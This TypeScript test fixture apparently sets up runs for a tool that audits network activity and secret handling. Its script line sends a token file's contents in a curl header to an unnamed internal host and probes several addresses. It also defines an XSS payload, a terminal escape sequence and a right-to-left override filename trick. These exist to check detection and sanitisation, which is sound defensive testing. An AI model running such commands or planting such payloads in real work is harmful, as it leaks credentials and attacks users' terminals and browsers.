/**
 * A home with something to tell: a run with refusals, a finding, secrets that it typed, hostile words, and a request with a
 * credential of the vault; and a run that did nothing wrong.
 *
 * @module
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { TestHome } from "./home.ts";

/** What the vault keeps; no answer may hold it. */
export const SECRET = "s3cret-of-the-vault-7f1c";
/** What the run typed itself, which reports blacken. */
export const TYPED = "ghp_abcdefghijklmnopqrst1234";
/** In a target and an argument: markup, an end of a terminal's title, and a turn to the right. */
export const HOSTILE = "<img src=x onerror=alert(1)>\u001B]0;owned\u0007\u202Etxt.exe";

/** Five destinations that no task names, a secret that is typed, a post and a read with the credential. */
const SCRIPT = `curl -s --max-time 1 -H "x: $(cat key)" http://10.9.8.1/
for n in 2 3 4 5 6; do curl -s --max-time 1 http://10.9.8.$n/ >/dev/null; done
/bin/echo "$(cat hostile)" >/dev/null
curl -s --max-time 1 "http://closed.test/$(printf '%3Cscript%3E')"
curl -s -d hello http://open.test/a
curl -s http://open.test/b`;

export interface TroubledHome {
  readonly home: TestHome;
  readonly troubled: string;
  readonly quiet: string;
  close(): Promise<void>;
}

export async function openTroubledHome(): Promise<TroubledHome> {
  const server: Server = createServer((_, response) => void response.end("ok\n"));
  server.listen(0, "127.0.0.1").unref(); // It goes with the test, also where a console closes the home.
  await once(server, "listening");
  const home = new TestHome();
  home.write("key", TYPED);
  home.write("hostile", HOSTILE);
  home.write(
    "task.yaml",
    `task: report
purpose: see what is told of it <script>alert(1)</script>
respond: { scan: record }
grants:
  - system: http
    name: open
    hosts: [open.test]
    ports: [80]
    tls: false
    dial: 127.0.0.1:${(server.address() as AddressInfo).port}
    credential: open-key
    allow: [{ methods: [GET, POST], paths: ["/**"] }]
`,
  );
  const added = await home.call(
    ["credential", "add", "open-key", "--kind", "bearer", "--host", "open.test"].concat([
      ...["--scheme", "http", "--port", "80", "--stdin"],
    ]),
    { input: SECRET },
  );
  assert.equal(added.code, 0, added.stderr);
  await home.run(["sh", "-c", SCRIPT], ["--task", "task.yaml"]);
  await home.run(["true"]);
  const runs = (await home.runs({ all: true })).toSorted((a, b) =>
    a.startedAt < b.startedAt ? -1 : 1,
  );
  const [troubled, quiet] = runs.map(({ run }) => run);
  assert.ok(troubled !== undefined && quiet !== undefined);
  return {
    ...{ home, troubled, quiet },
    close: async () => {
      server.close();
      await home.close();
    },
  };
}
